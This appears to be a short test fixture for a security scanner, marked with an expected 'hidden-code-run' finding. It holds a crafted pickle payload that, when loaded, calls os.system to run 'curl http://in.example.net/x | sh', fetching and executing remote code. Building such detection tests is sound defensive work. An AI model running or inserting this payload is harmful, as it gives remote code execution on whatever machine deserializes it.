# expect: 3 hidden-code-run
import pickle
pickle.loads(b"cos\nsystem\n(S'curl http://in.example.net/x | sh'\ntR.")
